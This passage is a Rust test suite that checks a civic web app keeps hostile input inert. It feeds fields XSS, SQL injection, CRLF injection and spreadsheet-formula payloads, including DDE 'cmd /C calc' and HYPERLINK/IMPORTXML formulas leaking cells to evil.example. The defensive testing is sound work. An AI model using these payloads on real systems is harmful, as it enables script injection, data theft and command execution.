//! The hostile-input suite (#14, "keep it found"), on both databases: every free-text field of the
//! public opinion form, visitor registration, activities, rooms and members gets the same list of
//! hostile payloads (XSS, spreadsheet formulas, SQL metacharacters, control, direction and zero-width
//! characters, strings up to 1 MB, unusual Unicode), and each route gets malformed requests (deep JSON,
//! wrong content types, invalid UTF-8, duplicate keys, numbers for strings).
//!
//! Each answer is either a clear 4xx in the API's JSON error shape, with nothing written, or the text is
//! stored exactly as the domain's text rules keep it (`domain::text`, the oracle) and comes back as
//! harmless text: the same in the JSON, escaped on every page that shows it, a text cell that cannot run
//! as a formula in the .xlsx score sheet, and an intact property in the .ics feeds.

mod common;

use std::collections::HashSet;

use common::{TestApp, call, new_client};
use reqwest::Method;
use serde_json::{Value, json};
use store::on_both_databases;
use store::test_support::TestDatabase;

// ---------------------------------------------------------------------------------------------------
// The payloads
// ---------------------------------------------------------------------------------------------------

/// One hostile text. `always_refused`: no field may store it (NUL and other control characters,
/// direction controls, a megabyte).
struct Payload {
    family: &'static str,
    text: String,
    always_refused: bool,
}

fn family(name: &'static str, texts: &[&str]) -> Vec<Payload> {
    texts
        .iter()
        .map(|t| Payload {
            family: name,
            text: (*t).to_owned(),
            always_refused: false,
        })
        .collect()
}

fn refused(name: &'static str, texts: Vec<String>) -> Vec<Payload> {
    texts
        .into_iter()
        .map(|text| Payload {
            family: name,
            text,
            always_refused: true,
        })
        .collect()
}

/// About 90 payloads, distinct once trimmed (so a room name is never refused only as a duplicate).
fn payloads() -> Vec<Payload> {
    let mut all = Vec::new();
    all.extend(family(
        "xss",
        &[
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<img src=\"x\" onerror=\"alert(document.cookie)\">",
            "javascript:alert(document.cookie)",
            "<a href=\"javascript:alert(1)\">点我领奖</a>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "<style>body{display:none}</style>",
            "<!-- 注释 --><b>加粗</b>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&amp;&quot;&#x27;&nbsp;",
            "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<base href=\"http://evil.example/\">",
        ],
    ));
    all.extend(family(
        "formula",
        &[
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1:A2)",
            "\t=1+2",
            "\r=1+3",
            " =1+4",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "＝1+1（全角等号）",
            "-",
            "=",
        ],
    ));
    all.extend(family(
        "sql",
        &[
            "' OR 1=1 --",
            "\"; DROP TABLE opinions; --",
            "'); DELETE FROM members; --",
            "\\",
            "\\'",
            "1; SELECT pg_sleep(5)--",
            "' UNION SELECT password_hash FROM accounts --",
            "%' AND 1=1 AND '%'='",
            "$1 ?1 :name",
            "' || (SELECT version()) || '",
            "O'Brien 奥布莱恩",
            "\\x00 %00 \\u0000",
            "%s%s%n%x",
        ],
    ));
    all.extend(family(
        "lines",
        &[
            "第一行\n第二行",
            "第一行\r\n第二行",
            "甲\t乙",
            "地址\r\nSet-Cookie: wr_session=x",
            "x\r\nBEGIN:VEVENT\r\nSUMMARY:伪造\r\nEND:VEVENT",
            "\u{85}下一行",
        ],
    ));
    all.extend(refused(
        "control",
        vec![
            "a\u{0}b".into(),
            "\u{0}".into(),
            "响铃\u{7}".into(),
            "\u{1b}[31m红色\u{1b}[0m".into(),
            "删除\u{7f}".into(),
            "\u{8}退格".into(),
            "非字符\u{FFFE}".into(),
            "非字符\u{FDD0}".into(),
        ],
    ));
    all.extend(refused(
        "bidi",
        vec![
            "\u{202E}abc".into(),
            "用户\u{202E}gnp.exe".into(),
            "\u{2066}隔离\u{2069}".into(),
            "标记\u{200F}".into(),
            "=\u{202E}1+1".into(),
        ],
    ));
    all.extend(family(
        "zero-width",
        &[
            "\u{200B}",
            "\u{FEFF}",
            "\u{200B}\u{200C}\u{200D}",
            "张\u{200B}三",
            "\u{FEFF}=1+1",
            "好👍\u{200D}🔥",
        ],
    ));
    all.extend(family(
        "unicode",
        &[
            "👨‍👩‍👧‍👦 家庭 🇨🇳",
            "e\u{301}\u{301}\u{301}\u{301} Z\u{36b}\u{33e}\u{35b}",
            "𠀀𠀁𪚥𰻝",
            "\u{FFFD}\u{FFFD}",
            "𝕏𝕐ℤ ①②③ Ⅻ",
            "\u{3000}全角空格\u{3000}",
            "不间断\u{A0}空格",
            "مرحبا שלום",
            "ﷺ﷽",
            "../../etc/passwd",
            "http://evil.example/?q=<x>",
            "地址;含,分号\\反斜杠:冒号",
        ],
    ));
    all.extend(family(
        "long",
        &[
            &"长".repeat(20),
            &"长".repeat(21),
            &"长".repeat(40),
            &"长".repeat(41),
            &"x".repeat(60),
            &"x".repeat(61),
            &"字".repeat(100),
            &"字".repeat(101),
            &"段".repeat(200),
            &"段".repeat(201),
            &"意".repeat(2000),
            &"意".repeat(2001),
            &"<b>".repeat(700),
        ],
    ));
    all.extend(refused(
        "megabyte",
        vec!["x".repeat(100_000), "x".repeat(1_000_000), "长".repeat(333_333)],
    ));
    let mut seen = HashSet::new();
    all.retain(|p| seen.insert(p.text.trim().to_owned()));
    all
}

// ---------------------------------------------------------------------------------------------------
// The rules each field keeps (the oracle) and the checks
// ---------------------------------------------------------------------------------------------------

/// How a field treats typed text: the domain's own functions decide, so this suite checks that the
/// HTTP layer, the database and every output agree with them.
#[derive(Clone, Copy, Debug)]
enum Rule {
    /// `domain::text::paragraphs`, required.
    Paragraphs(usize),
    /// `domain::text::single_line`, required.
    Line(usize),
    /// Blank means none; otherwise `single_line`.
    OptionalLine(usize),
    /// Empty means none; otherwise `single_line` (a room's opening notes: only invisible
    /// characters are refused, not taken for none).
    OptionalStrictLine(usize),
    /// A room's name: a line of 2–60 characters.
    RoomName,
}

impl Rule {
    /// `Ok(stored)` (`None` for an optional field left blank) or `Err(())` for a refusal.
    fn expect(self, raw: &str) -> Result<Option<String>, ()> {
        use domain::text::{blank, paragraphs, single_line};
        match self {
            Self::Paragraphs(max) => paragraphs(raw, max).map(Some).map_err(|_| ()),
            Self::Line(max) => single_line(raw, max).map(Some).map_err(|_| ()),
            Self::OptionalLine(_) if blank(raw.trim()) => Ok(None),
            Self::OptionalStrictLine(_) if raw.trim().is_empty() => Ok(None),
            Self::OptionalLine(max) | Self::OptionalStrictLine(max) => {
                single_line(raw, max).map(Some).map_err(|_| ())
            }
            Self::RoomName => single_line(raw, 60)
                .ok()
                .filter(|n| n.chars().count() >= 2)
                .map(Some)
                .ok_or(()),
        }
    }
}

/// An answer read whole.
struct Answer {
    status: u16,
    content_type: String,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

async fn answer(request: reqwest::RequestBuilder) -> Answer {
    let response = request
        .send()
        .await
        .expect("the server answers, never drops the connection");
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap_or_default().to_owned())
        .unwrap_or_default();
    let body = response.bytes().await.expect("the whole body arrives").to_vec();
    Answer {
        status,
        content_type,
        body,
    }
}

/// Sends `requests` eight at a time (the server sees concurrent writers) and returns the answers in
/// order.
async fn send_all(requests: Vec<reqwest::RequestBuilder>) -> Vec<Answer> {
    let mut answers = Vec::with_capacity(requests.len());
    let mut requests = requests.into_iter().peekable();
    while requests.peek().is_some() {
        let tasks: Vec<_> = requests
            .by_ref()
            .take(8)
            .map(|r| tokio::spawn(answer(r)))
            .collect();
        for task in tasks {
            answers.push(task.await.expect("the request task ends"));
        }
    }
    answers
}

/// A clear refusal: 4xx in the JSON error shape; a refusal of the text itself names the field.
fn assert_refused(answer: &Answer, field: Option<&str>, what: &str) {
    assert!(
        (400..500).contains(&answer.status),
        "{what}: expected a 4xx, got {} {}",
        answer.status,
        answer.text().chars().take(300).collect::<String>()
    );
    assert!(
        answer.content_type.starts_with("application/json"),
        "{what}: a {} answered {}",
        answer.status,
        answer.content_type
    );
    let body = answer.json();
    let code = body["error"]["code"].as_str().unwrap_or_default();
    let message = body["error"]["message"].as_str().unwrap_or_default();
    assert!(!code.is_empty() && !message.is_empty(), "{what}: {body}");
    if let Some(field) = field
        && answer.status == 422
    {
        assert_eq!(body["error"]["field"], field, "{what}: {body}");
    }
}

/// Text as askama's HTML escaper writes it.
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '<' => out.push_str("&#60;"),
            '>' => out.push_str("&#62;"),
            '&' => out.push_str("&#38;"),
            '"' => out.push_str("&#34;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// `stored` appears on the page as text: escaped, and never as markup.
fn assert_shown_as_text(html: &str, stored: &str, what: &str) {
    assert!(
        html.contains(&escaped(stored)),
        "{what}: {:?} is not on the page as escaped text",
        stored.chars().take(80).collect::<String>()
    );
    if stored.contains(['<', '>', '"', '\'']) {
        assert!(!html.contains(stored), "{what}: {stored:?} appears unescaped");
    }
}

/// What a text cell of an exported workbook must read: a formula start gets the apostrophe
/// (`documents::spreadsheet_text`), anything else is the text itself.
fn neutral_cell(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The first sheet of an .xlsx: its cells as text, after checking that no cell holds a formula.
fn read_workbook(bytes: &[u8]) -> documents::xlsx::Sheet {
    use calamine::Reader;
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).expect("an .xlsx file");
    let first = workbook.sheet_names()[0].clone();
    let formulas = workbook.worksheet_formula(&first).expect("the first sheet");
    let with_formula: Vec<_> = formulas.used_cells().filter(|(_, _, f)| !f.is_empty()).collect();
    assert!(with_formula.is_empty(), "cells hold formulas: {with_formula:?}");
    documents::xlsx::read_first_sheet(bytes).expect("the sheet reads back")
}

/// The events of an iCalendar feed, after checking that no text made an event of its own.
fn feed_events(text: &str) -> Vec<(String, String)> {
    let unfolded = icalendar::parser::unfold(text);
    let calendar = icalendar::parser::read_calendar(&unfolded).expect("a valid iCalendar feed");
    let events: Vec<_> = calendar
        .components
        .iter()
        .filter(|c| c.name == "VEVENT")
        .collect();
    assert_eq!(
        events.len(),
        text.matches("BEGIN:VEVENT").count(),
        "a text opened an event of its own"
    );
    assert!(!text.contains("伪造"), "an injected property reached the feed");
    events
        .iter()
        .map(|e| {
            let prop = |name: &str| e.find_prop(name).map(|p| p.val.to_string()).unwrap_or_default();
            (prop("SUMMARY"), prop("LOCATION"))
        })
        .collect()
}

fn short(text: &str) -> String {
    let head: String = text.chars().take(40).collect();
    format!("{head:?} ({} chars)", text.chars().count())
}

async fn count(app: &TestApp, token: &str, path: &str) -> usize {
    let (status, body) = call(app, token, Method::GET, path, None).await;
    assert_eq!(status, 200, "{path}: {body}");
    // A paged list says how many it holds in all; a plain one is counted.
    match body["total"].as_u64() {
        Some(total) => usize::try_from(total).unwrap(),
        None => body.as_array().expect("a list").len(),
    }
}

// ---------------------------------------------------------------------------------------------------
// Opinions: the public form and visitor registration
// ---------------------------------------------------------------------------------------------------

const OPINION_FIELDS: [(&str, Rule); 3] = [
    ("content", Rule::Paragraphs(2000)),
    ("contact_name", Rule::Line(40)),
    ("community", Rule::OptionalLine(100)),
];

async fn opinions_keep_hostile_text_as_text(db: TestDatabase) {
    // Each submission comes from its own address (behind a trusted proxy) and phone, so the rate
    // limits of the public form do not end the run.
    let app = TestApp::spawn_behind(db, true, vec!["127.0.0.1".parse().unwrap()]).await;
    let staff = app.token("demo-staff").await;
    let (page, _) = app.page_session("demo-staff").await;
    let cases_before = count(&app, &staff, "/api/v1/opinions").await;
    let payloads = payloads();

    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for public in [true, false] {
        for (field, rule) in OPINION_FIELDS {
            for p in &payloads {
                let n = requests.len();
                let mut body = json!({
                    "room_id": 1,
                    "content": "小区门口的路灯坏了，晚上很黑。",
                    "contact_name": "李秀英",
                    "contact_phone": format!("139{n:08}"),
                    "community": "洪桥社区",
                    "consent": true,
                });
                body[field] = json!(p.text);
                let request = if public {
                    new_client()
                        .post(app.url("/api/v1/public/rooms/1/opinions"))
                        .header("x-forwarded-for", format!("10.1.{}.{}", n / 250, n % 250 + 1))
                } else {
                    app.with_token(Method::POST, "/api/v1/opinions", &staff)
                };
                requests.push(request.json(&body));
                sent.push((public, field, rule, p));
            }
        }
    }
    let answers = send_all(requests).await;

    // Accepted ones: find each case, then read it back as JSON and on its page.
    let (_, list) = common::case_list(&app, &staff).await;
    let id_of_code = |code: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|c| c["tracking_code"] == code)
            .unwrap_or_else(|| panic!("case {code} is listed"))["id"]
            .as_i64()
            .unwrap()
    };
    let mut stored = Vec::new();
    for ((public, field, rule, p), answer) in sent.iter().zip(&answers) {
        let route = if *public { "public form" } else { "visit" };
        let what = format!("{route} {field} {} {}", p.family, short(&p.text));
        let expected = rule.expect(&p.text);
        assert!(
            !(p.always_refused && expected.is_ok()),
            "{what}: the oracle stores it"
        );
        match expected {
            Err(()) => assert_refused(answer, Some(field), &what),
            Ok(value) => {
                assert_eq!(answer.status, 201, "{what}: {}", answer.text());
                let body = answer.json();
                let id = if *public {
                    id_of_code(body["tracking_code"].as_str().unwrap())
                } else {
                    body["id"].as_i64().unwrap()
                };
                stored.push((id, *field, value, what));
            }
        }
    }
    let accepted = stored.len();
    assert!(accepted >= 150, "only {accepted} of {} stored", sent.len());
    let refusals = sent.len() - accepted;
    assert!(refusals >= 100, "only {refusals} refused");
    assert_eq!(
        count(&app, &staff, "/api/v1/opinions").await,
        cases_before + accepted,
        "a refusal wrote a case"
    );

    let json_answers = send_all(
        stored
            .iter()
            .map(|(id, ..)| app.with_token(Method::GET, &format!("/api/v1/opinions/{id}"), &staff))
            .collect(),
    )
    .await;
    let pages = send_all(
        stored
            .iter()
            .map(|(id, ..)| page.get(app.url(&format!("/admin/opinions/{id}"))))
            .collect(),
    )
    .await;
    for (((_, field, value, what), json), html) in stored.iter().zip(&json_answers).zip(&pages) {
        assert_eq!(json.status, 200, "{what}");
        let case = json.json();
        assert_eq!(case[*field], json!(value), "{what}: the JSON round-trips");
        assert_eq!(html.status, 200, "{what}: the case page");
        if let Some(value) = value {
            assert_shown_as_text(&html.text(), value, &format!("{what} on /admin/opinions"));
        }
    }
}

// ---------------------------------------------------------------------------------------------------
// Activities: recorded (summary, place) and completed afterwards (summary)
// ---------------------------------------------------------------------------------------------------

async fn activities_keep_hostile_text_as_text(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let staff = app.token("demo-staff").await;
    let (page, _) = app.page_session("demo-staff").await;
    let (_, room) = call(&app, &staff, Method::GET, "/api/v1/public/rooms/1", None).await;
    let address = room["address"].as_str().unwrap().to_owned();
    let (_, members) = call(&app, &staff, Method::GET, "/api/v1/members", None).await;
    let member = members
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["status"] == "serving")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let list = "/api/v1/activities?year=2026&room_id=1";
    let before = count(&app, &staff, list).await;
    let payloads = payloads();
    let activity = |summary: &str, place: Option<&str>| {
        json!({
            "room_id": 1, "kind": "policy_promotion", "date": "2026-11-20",
            "member_ids": [member], "summary": summary, "place": place,
        })
    };

    // Recorded with a hostile summary or place.
    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for p in &payloads {
        requests.push(
            app.with_token(Method::POST, "/api/v1/activities", &staff)
                .json(&activity(&p.text, None)),
        );
        sent.push(("summary", Rule::Paragraphs(2000), p));
        requests.push(
            app.with_token(Method::POST, "/api/v1/activities", &staff)
                .json(&activity("在社区开展政策宣讲。", Some(&p.text))),
        );
        sent.push(("place", Rule::Line(200), p));
    }
    let answers = send_all(requests).await;
    let mut shown = Vec::new();
    for ((field, rule, p), answer) in sent.iter().zip(&answers) {
        let what = format!("POST activity {field} {} {}", p.family, short(&p.text));
        // A blank place is the room's address.
        let expected = match (*field, p.text.trim()) {
            ("place", "") => Ok(Some(address.clone())),
            _ => rule.expect(&p.text),
        };
        assert!(
            !(p.always_refused && expected.is_ok()),
            "{what}: the oracle stores it"
        );
        match expected {
            Err(()) => assert_refused(answer, Some(field), &what),
            Ok(value) => {
                assert_eq!(answer.status, 201, "{what}: {}", answer.text());
                let body = answer.json();
                assert_eq!(body[*field], json!(value), "{what}: the JSON round-trips");
                shown.push((body["id"].as_i64().unwrap(), *field, value.unwrap(), what));
            }
        }
    }
    let recorded = shown.len();
    assert!(recorded >= 100, "only {recorded} recorded");
    assert_eq!(
        count(&app, &staff, list).await,
        before + recorded,
        "a refusal wrote an activity"
    );

    // Completed afterwards: each of fresh activities gets one hostile summary.
    let fresh = send_all(
        payloads
            .iter()
            .map(|_| {
                app.with_token(Method::POST, "/api/v1/activities", &staff)
                    .json(&activity("待补充的活动内容。", None))
            })
            .collect(),
    )
    .await;
    let fresh: Vec<i64> = fresh
        .iter()
        .map(|a| {
            assert_eq!(a.status, 201, "{}", a.text());
            a.json()["id"].as_i64().unwrap()
        })
        .collect();
    let answers = send_all(
        payloads
            .iter()
            .zip(&fresh)
            .map(|(p, id)| {
                app.with_token(Method::PATCH, &format!("/api/v1/activities/{id}"), &staff)
                    .json(&json!({ "summary": p.text }))
            })
            .collect(),
    )
    .await;
    for ((p, id), answer) in payloads.iter().zip(&fresh).zip(&answers) {
        let what = format!("PATCH activity summary {} {}", p.family, short(&p.text));
        match Rule::Paragraphs(2000).expect(&p.text) {
            Err(()) => {
                assert_refused(answer, Some("summary"), &what);
                let (_, after) = call(
                    &app,
                    &staff,
                    Method::GET,
                    &format!("/api/v1/activities/{id}"),
                    None,
                )
                .await;
                assert_eq!(
                    after["summary"], "待补充的活动内容。",
                    "{what}: nothing half-written"
                );
            }
            Ok(value) => {
                assert_eq!(answer.status, 200, "{what}: {}", answer.text());
                assert_eq!(answer.json()["summary"], json!(value), "{what}");
                let (_, again) = call(
                    &app,
                    &staff,
                    Method::GET,
                    &format!("/api/v1/activities/{id}"),
                    None,
                )
                .await;
                assert_eq!(again["summary"], json!(value), "{what}: read back");
                shown.push((*id, "summary", value.unwrap(), what));
            }
        }
    }

    // The staff's activities page shows every one of them as text.
    let html = answer(page.get(app.url("/admin/activities?year=2026&room=1"))).await;
    assert_eq!(html.status, 200);
    let html = html.text();
    for (_, _, value, what) in &shown {
        assert_shown_as_text(&html, value, &format!("{what} on /admin/activities"));
    }
}

// ---------------------------------------------------------------------------------------------------
// Rooms: opened (name, address, opening notes) and changed
// ---------------------------------------------------------------------------------------------------

const ROOM_FIELDS: [(&str, Rule); 3] = [
    ("name", Rule::RoomName),
    ("address", Rule::Line(200)),
    ("opening_notes", Rule::OptionalStrictLine(200)),
];

async fn rooms_keep_hostile_text_as_text(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let city = app.token("demo-city").await;
    let rooms_before = count(&app, &city, "/api/v1/rooms").await;
    let payloads = payloads();

    // Opened in 海珠区 (room 1 of 越秀区 takes the names below, and names are unique per district).
    let mut requests = Vec::new();
    let mut sent = Vec::new();
    for (field, rule) in ROOM_FIELDS {
        for p in &payloads {
            let mut body = json!({
                "name": format!("赤岗街恶意输入测试{}号工作室", requests.len()),
                "kind": "fixed", "division_code": "440105001",
                "address": "赤岗街道党群服务中心", "opening_notes": "周一至周五开放",
            });
            body[field] = json!(p.text);
            requests.push(app.with_token(Method::POST, "/api/v1/rooms", &city).json(&body));
            sent.push((field, rule, p));
        }
    }
    let answers = send_all(requests).await;
    let mut opened = Vec::new();
    for ((field, rule, p), answer) in sent.iter().zip(&answers) {
        let what = format!("POST room {field} {} {}", p.family, short(&p.text));
        let expected = rule.expect(&p.text);
        assert!(
            !(p.always_refused && expected.is_ok()),
            "{what}: the oracle stores it"
        );
        match expected {
            Err(()) => assert_refused(answer, Some(field), &what),
            Ok(value) => {
                assert_eq!(answer.status, 201, "{what}: {}", answer.text());
                let body = answer.json();
                assert_eq!(body[*field], json!(value), "{what}: the JSON round-trips");
                opened.push((body["id"].as_i64().unwrap(), *field, value, what));
            }
        }
    }
    assert!(opened.len() >= 150, "only {} opened", opened.len());
    assert_eq!(
        count(&app, &city, "/api/v1/rooms").await,
        rooms_before + opened.len(),
        "a refusal opened a room"
    );

    // Each new room: the public JSON, its public page and its calendar feed.
    let public = send_all(
        opened
            .iter()
            .map(|(id, ..)| new_client().get(app.url(&format!("/api/v1/public/rooms/{id}"))))
            .collect(),
    )
    .await;
    let pages = send_all(
        opened
            .iter()
            .map(|(id, ..)| new_client().get(app.url(&format!("/rooms/{id}"))))
            .collect(),
    )
    .await;
    let feeds = send_all(
        opened
            .iter()
            .map(|(id, ..)| new_client().get(app.url(&format!("/rooms/{id}/calendar.ics"))))
            .collect(),
    )
    .await;
    for ((((_, field, value, what), json), html), feed) in opened.iter().zip(&public).zip(&pages).zip(&feeds)
    {
        assert_eq!(json.status, 200, "{what}");
        assert_eq!(json.json()[*field], json!(value), "{what}: the public JSON");
        assert_eq!(html.status, 200, "{what}: the room page");
        assert_eq!(feed.status, 200, "{what}: the feed");
        let Some(value) = value else { continue };
        assert_shown_as_text(&html.text(), value, &format!("{what} on /rooms/{{id}}"));
        let events = feed_events(&feed.text());
        assert!(!events.is_empty(), "{what}: the feed has reception days");
        for (summary, location) in events {
            match *field {
                "name" => assert_eq!(summary, format!("政协委员接待日：{value}"), "{what}: .ics"),
                "address" => assert_eq!(&location, value, "{what}: .ics"),
                _ => {}
            }
        }
    }

    // Room 1 changed, one value after another: its member's calendar feed and the score sheet carry
    // the name.
    let member = app.token("demo-member").await;
    let (status, issued) = call(&app, &member, Method::POST, "/api/v1/me/calendar-feed", None).await;
    assert_eq!(status, 201, "{issued}");
    let feed_url = issued["url"].as_str().unwrap().to_owned();
    let (_, me) = call(&app, &city, Method::GET, "/api/v1/members", None).await;
    let chen = me
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "陈思远")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    for (field, rule) in ROOM_FIELDS {
        let (_, mut current) = call(&app, &city, Method::GET, "/api/v1/public/rooms/1", None).await;
        for p in &payloads {
            let what = format!("PATCH room {field} {} {}", p.family, short(&p.text));
            let answer = answer(
                app.with_token(Method::PATCH, "/api/v1/rooms/1", &city)
                    .json(&json!({ field: p.text })),
            )
            .await;
            let Ok(value) = rule.expect(&p.text) else {
                assert_refused(&answer, Some(field), &what);
                let (_, after) = call(&app, &city, Method::GET, "/api/v1/public/rooms/1", None).await;
                assert_eq!(after[field], current[field], "{what}: nothing half-written");
                continue;
            };
            assert_eq!(answer.status, 200, "{what}: {}", answer.text());
            assert_eq!(answer.json()[field], json!(value), "{what}: the JSON round-trips");
            current[field] = json!(value);
            if field != "name" {
                continue;
            }
            let name = value.unwrap();
            let feed = app.get(&feed_url).await.text().await.unwrap();
            let events = feed_events(&feed);
            assert!(!events.is_empty(), "{what}: 陈思远 has duties");
            for (summary, _) in events {
                assert_eq!(summary, format!("接待日值班：{name}"), "{what}: member feed");
            }
            let (_, record) = call(&app, &city, Method::GET, &format!("/api/v1/members/{chen}"), None).await;
            let rooms: Vec<&str> = record["rooms"]
                .as_array()
                .unwrap()
                .iter()
                .map(|r| r.as_str().unwrap())
                .collect();
            assert!(rooms.contains(&name.as_str()), "{what}: {record}");
            let sheet = score_sheet(&app, &city).await;
            let row = sheet.rows.iter().find(|(_, r)| r[0] == "陈思远").unwrap();
            assert_eq!(
                row.1[5],
                neutral_cell(&rooms.join("、")),
                "{what}: score sheet 工作室"
            );
        }
    }
    let html = app.get("/rooms/1").await.text().await.unwrap();
    assert!(!html.contains("<script>alert"), "room 1's page");
}

async fn score_sheet(app: &TestApp, token: &str) -> documents::xlsx::Sheet {
    let response = answer(app.with_token(Method::GET, "/api/v1/score-sheet?year=2026", token)).await;
    assert_eq!(response.status, 200);
    read_workbook(&response.body)
}

// ---------------------------------------------------------------------------------------------------
// Members: employer, position, sector, term
// ---------------------------------------------------------------------------------------------------

const MEMBER_FIELDS: [(&str, Rule, usize); 4] = [
    ("sector", Rule::OptionalLine(40), 4),
    ("employer", Rule::OptionalLine(100), usize::MAX),
    ("position", Rule::OptionalLine(60), usize::MAX),
    ("term", Rule::OptionalLine(20), 2),
];

async fn members_keep_hostile_text_as_text(db: TestDatabase) {
    let app = TestApp::spawn_demo(db).await;
    let city = app.token("demo-city").await;
    let (page, _) = app.page_session("demo-city").await;
    let (_, list) = call(&app, &city, Method::GET, "/api/v1/members", None).await;
    // Members with distinct names, so each has its own row in the score sheet.
    let mut names = HashSet::new();
    let members: Vec<(i64, String)> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["status"] == "serving" && names.insert(m["name"].as_str().unwrap().to_owned()))
        .map(|m| (m["id"].as_i64().unwrap(), m["name"].as_str().unwrap().to_owned()))
        .collect();
    assert!(members.len() >= 20, "{} members", members.len());
    let payloads = payloads();

    for (field, rule, sheet_column) in MEMBER_FIELDS {
        // One round gives each member one payload; the next round the next ones.
        for round in payloads.chunks(members.len()) {
            let before = send_all(
                members
                    .iter()
                    .take(round.len())
                    .map(|(id, _)| app.with_token(Method::GET, &format!("/api/v1/members/{id}"), &city))
                    .collect(),
            )
            .await;
            let answers = send_all(
                round
                    .iter()
                    .zip(&members)
                    .map(|(p, (id, _))| {
                        app.with_token(Method::PATCH, &format!("/api/v1/members/{id}"), &city)
                            .json(&json!({ field: p.text }))
                    })
                    .collect(),
            )
            .await;
            let after = send_all(
                members
                    .iter()
                    .take(round.len())
                    .map(|(id, _)| app.with_token(Method::GET, &format!("/api/v1/members/{id}"), &city))
                    .collect(),
            )
            .await;
            let pages = send_all(
                members
                    .iter()
                    .take(round.len())
                    .map(|(id, _)| page.get(app.url(&format!("/admin/members/{id}"))))
                    .collect(),
            )
            .await;
            let sheet = score_sheet(&app, &city).await;
            for (i, p) in round.iter().enumerate() {
                let (id, name) = &members[i];
                let what = format!("PATCH member {id} {field} {} {}", p.family, short(&p.text));
                let expected = rule.expect(&p.text);
                assert!(
                    !(p.always_refused && expected.is_ok()),
                    "{what}: the oracle stores it"
                );
                let now = after[i].json();
                let value = match expected {
                    Err(()) => {
                        assert_refused(&answers[i], Some(field), &what);
                        assert_eq!(
                            now[field],
                            before[i].json()[field],
                            "{what}: nothing half-written"
                        );
                        continue;
                    }
                    Ok(value) => value,
                };
                assert_eq!(answers[i].status, 200, "{what}: {}", answers[i].text());
                assert_eq!(answers[i].json()[field], json!(value), "{what}: the JSON");
                assert_eq!(now[field], json!(value), "{what}: read back");
                let Some(value) = value else { continue };
                assert_shown_as_text(&pages[i].text(), &value, &format!("{what} on /admin/members"));
                if sheet_column != usize::MAX {
                    let row = sheet.rows.iter().find(|(_, r)| &r[0] == name).unwrap();
                    assert_eq!(row.1[sheet_column], neutral_cell(&value), "{what}: score sheet");
                }
            }
        }
    }

    // What R8 publishes: the room page and the poster show sector, employer and position.
    let published = [
        ("employer", "\"><img src=x onerror=alert(1)>单位"),
        ("position", "<script>alert(1)</script>"),
        ("sector", "=HYPERLINK(\"http://evil.example\")"),
    ];
    for (field, text) in published {
        let (status, body) = call(
            &app,
            &city,
            Method::PATCH,
            "/api/v1/members/1",
            Some(json!({ field: text })),
        )
        .await;
        assert_eq!(status, 200, "{body}");
    }
    let (_, record) = call(&app, &city, Method::GET, "/api/v1/members/1", None).await;
    let (_, rooms) = call(&app, &city, Method::GET, "/api/v1/rooms", None).await;
    let serving_in: Vec<i64> = rooms
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| record["rooms"].as_array().unwrap().contains(&r["name"]))
        .map(|r| r["id"].as_i64().unwrap())
        .collect();
    assert!(!serving_in.is_empty(), "{record}");
    for room_id in serving_in {
        for path in [format!("/rooms/{room_id}"), format!("/rooms/{room_id}/poster")] {
            let html = app.get(&path).await.text().await.unwrap();
            for (field, text) in published {
                if field != "sector" || !path.ends_with("poster") {
                    assert_shown_as_text(&html, text, &format!("{field} on {path}"));
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------------
// The social-report draft (.docx): title and text as the member edited them
// ---------------------------------------------------------------------------------------------------

/// Every text run (`<w:t>`) of a Word document, read from `word/document.xml` and unescaped once.
/// (docx-rs's reader decodes entities twice, so it would take `&lt;` typed by a member for `<`.)
fn docx_texts(bytes: &[u8]) -> Vec<String> {
    use std::io::Read;
    docx_rs::read_docx(bytes).expect("a well-formed Word document");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip file");
    let mut xml = String::new();
    archive
        .by_name("word/document.xml")
        .expect("the document part")
        .read_to_string(&mut xml)
        .unwrap();
    let mut texts = Vec::new();
    let mut rest = xml.as_str();
    while let Some(at) = rest.find("<w:t") {
        rest = &rest[at + 4..];
        if !rest.starts_with([' ', '>']) {
            continue; // <w:tab/>, <w:tbl> …
        }
